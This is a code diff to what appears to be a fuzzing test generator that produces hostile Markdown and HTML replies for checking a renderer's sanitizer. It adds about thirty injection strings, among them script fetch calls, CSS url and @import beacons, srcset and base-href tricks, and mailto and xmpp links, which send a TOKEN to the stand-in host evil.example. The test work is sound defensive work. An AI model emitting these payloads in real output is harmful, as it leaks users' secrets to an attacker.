@@ -1,3 +1,4 @@
+import { grammaticalReply } from './hostile-grammar.js'
 import type { Random } from './random.js'
 
 /**
@@ -96,6 +97,38 @@ export const ATTACKS: readonly string[] = [
   '[a]()TOKEN)',
   '[[a](TOKEN)](b)',
   '![a][b]\n\n[b]: TOKEN "x"',
+  '<!--><b\nhref="https://evil.example/">TOKEN',
+  '<!-- --> \\<<div\na href="https://evil.example/">TOKEN',
+  '- <div\ntitle="https://evil.example/">TOKEN',
+  '<https:\\\nwww.evil.example>TOKEN',
+  '![a](\\\r\nTOKEN)',
+  '- ![a](\\\n TOKEN)',
+  '> ![a](//evil.example/?q=\\\n> TOKEN)',
+  '[a]: \u200bmailto:TOKEN\n\n[a]',
+  'www.](mailto:TOKEN',
+  '[^n]\n\n[^n]:](tel:TOKEN)',
+  'xmpp:TOKEN@evil.example',
+  '- <div><TOKEN src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
+  '<g</style =background:url(//evil.example/?q=TOKEN)>',
+  "![<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
+  "![<!--\"-->srcset='//evil.example/?q= TOKEN'](x)",
+  "![[`]`](y)<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
+  '> ![](\u2028> TOKEN)',
+  '> <base href=\u2028>TOKEN',
+  'a <script>`</script>` fetch("//evil.example/?q= TOKEN")</script>',
+  'a <script>\n```\n</script>\n```\nfetch("//evil.example/?q= TOKEN")</script>',
+  'a <script>\\</script> fetch("//evil.example/?q= TOKEN")</script>',
+  '<svg><style>@import &quot;//evil.example/<?ph </style>?q= TOKEN&quot;</style></svg>',
+  "a <pre><n=\n\"> mask='#TOKEN'</pre>",
+  "a <code>`</code>` <n=\n\"> mask='#TOKEN'</code>",
+  "a <pre>`<code></code>` <n=\n\"> mask='#TOKEN'</pre>",
+  'a|<script>\n-|-\nb|c|</script>\nfetch("//evil.example/?q= TOKEN")',
+  'a|<style>\n-|-\nb|c|</style>\n*{background:\\75rl("//evil.example/?q= TOKEN")}',
+  'a <script></script \u200b>fetch("//evil.example/?q= TOKEN")',
+  'a <style></style/>*{background:\\75rl("//evil.example/?q= TOKEN")}',
+  "<p title='\n\n' x=> background=//evil.example/?q=TOKEN",
+  "<p title='\n\n' x=> background=TOKEN",
+  'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
 const PIECES = [
@@ -263,9 +296,11 @@ const PIECES = [
 ]
 
 export function hostileReply(random: Random): string {
-  const kind = random.below(10)
-  if (kind < 4) return mutated(random.pick(ATTACKS), random)
-  if (kind < 6)
+  const kind = random.below(20)
+  if (kind < 8) return grammaticalReply(random)
+  if (kind < 10) return mutated(grammaticalReply(random), random)
+  if (kind < 14) return mutated(random.pick(ATTACKS), random)
+  if (kind < 16)
     return mutated(`${random.pick(ATTACKS)}${random.pick(['', ' ', '\n', '\n\n'])}${random.pick(ATTACKS)}`, random)
   return composed(random)
 }
